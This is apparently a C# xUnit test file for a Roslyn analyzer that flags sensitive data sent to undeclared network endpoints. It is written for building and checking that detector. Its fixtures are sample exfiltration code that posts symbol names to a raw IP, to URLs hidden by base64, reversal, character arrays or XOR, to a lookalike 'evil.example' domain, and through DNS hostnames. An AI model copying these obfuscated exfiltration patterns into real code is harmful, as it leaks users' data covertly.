using System.Threading.Tasks;
using Xunit;
using Microsoft.CodeAnalysis.Testing;
using static ExfilAnalyzers.Tests.Verifiers.FlowVerifier;

namespace ExfilAnalyzers.Tests.Tactics;

/// <summary>EXF1006: sensitive data on a raw channel to a destination nobody declared.</summary>
public class UndeclaredEndpointTests
{
    private const string Usings = """
        using System;
        using System.Linq;
        using System.Net;
        using System.Net.Http;
        using System.Text;
        using System.Threading.Tasks;
        using Microsoft.ApplicationInsights;
        using Microsoft.CodeAnalysis;

        """;

    private const string Declared = """
        endpoint https://telemetry.contoso.com/v1
        endpoint https://metrics.contoso.com/
        """;

    [Fact]
    public Task Messages_say_where_the_data_goes()
    {
        var source = Usings + """
            class Agent
            {
                async Task Send(HttpClient http, ISymbol symbol, string server)
                {
                    await http.PostAsync("https://203.0.113.7/ingest", {|#0:new StringContent(symbol.Name)|});
                    await http.PostAsync("https://" + server + "/ingest", {|#1:new StringContent(symbol.Name)|});
                    var hidden = Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9sZWFrLmV4YW1wbGUubmV0L2M="));
                    await http.PostAsync(hidden, {|#2:new StringContent(symbol.Name)|});
                    Dns.GetHostAddresses({|#3:symbol.Name + ".example.net"|});
                }
            }
            """;
        return VerifyAsync(source,
            Diagnostic("EXF1002").WithLocation(0).WithArguments("ISymbol.Name", "HttpClient.PostAsync").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1006").WithLocation(0).WithArguments("Symbol name", "ISymbol.Name", "HttpClient.PostAsync", "'https://203.0.113.7/ingest'").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1002").WithLocation(1).WithArguments("ISymbol.Name", "HttpClient.PostAsync").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1006").WithLocation(1).WithArguments("Symbol name", "ISymbol.Name", "HttpClient.PostAsync", "'https://...'").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1002").WithLocation(2).WithArguments("ISymbol.Name", "HttpClient.PostAsync").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1006").WithLocation(2).WithArguments("Symbol name", "ISymbol.Name", "HttpClient.PostAsync", "a destination decoded from an obfuscated constant").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1002").WithLocation(3).WithArguments("ISymbol.Name", "Dns.GetHostAddresses").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations),
            Diagnostic("EXF1006").WithLocation(3).WithArguments("Symbol name", "ISymbol.Name", "Dns.GetHostAddresses", "a host name that carries the data").WithOptions(DiagnosticOptions.IgnoreAdditionalLocations));
    }

    [Fact]
    public Task Destinations_spelled_out_reversed_or_xored_are_decoded()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, ISymbol symbol)
                {
                    var chars = new[] { 'h', 't', 't', 'p', 's', ':', '/', '/', 'x', '.', 'n', 'e', 't' };
                    await http.PostAsync(new string(chars), {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                    var reversed = new string("ten.kael//:sptth".Reverse().ToArray());
                    await http.PostAsync(reversed, {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                    var key = new byte[] { 0x68, 0x74, 0x74, 0x70, 0x73 };
                    for (var i = 0; i < key.Length; i++) key[i] ^= 0x20;
                    await http.PostAsync(Encoding.ASCII.GetString(key), {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                }
            }
            """);
    }

    [Fact]
    public Task Declared_endpoints_remove_only_the_endpoint_rule()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, ISymbol symbol)
                {
                    await http.PostAsync("https://telemetry.contoso.com/v1/events", {|EXF1002:new StringContent(symbol.Name)|});
                    await http.PostAsync(new Uri("https://telemetry.contoso.com/v1/events"), {|EXF1002:new StringContent(symbol.Name)|});
                    await http.SendAsync({|EXF1002:new HttpRequestMessage(HttpMethod.Post, "https://metrics.contoso.com/m") { Content = new StringContent(symbol.Name) }|});
                    var client = new HttpClient { BaseAddress = new Uri("https://telemetry.contoso.com/v1/") };
                    await client.PostAsync("events", {|EXF1002:new StringContent(symbol.Name)|});
                    await http.PostAsync("https://telemetry.contoso.com/v10/events", {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                    await http.PostAsync("https://telemetry.contoso.com.evil.example/v1", {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                }
            }
            """, Declared);
    }

    [Fact]
    public Task Telemetry_sdks_and_clean_payloads_are_not_endpoint_findings()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, TelemetryClient client, ISymbol symbol)
                {
                    client.TrackEvent({|EXF1002:symbol.Name|});
                    await http.PostAsync("https://203.0.113.7/ingest", new StringContent("started"));
                    var hidden = Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9sZWFrLmV4YW1wbGUubmV0L2M="));
                    await http.GetAsync(hidden);
                }
            }
            """);
    }
}
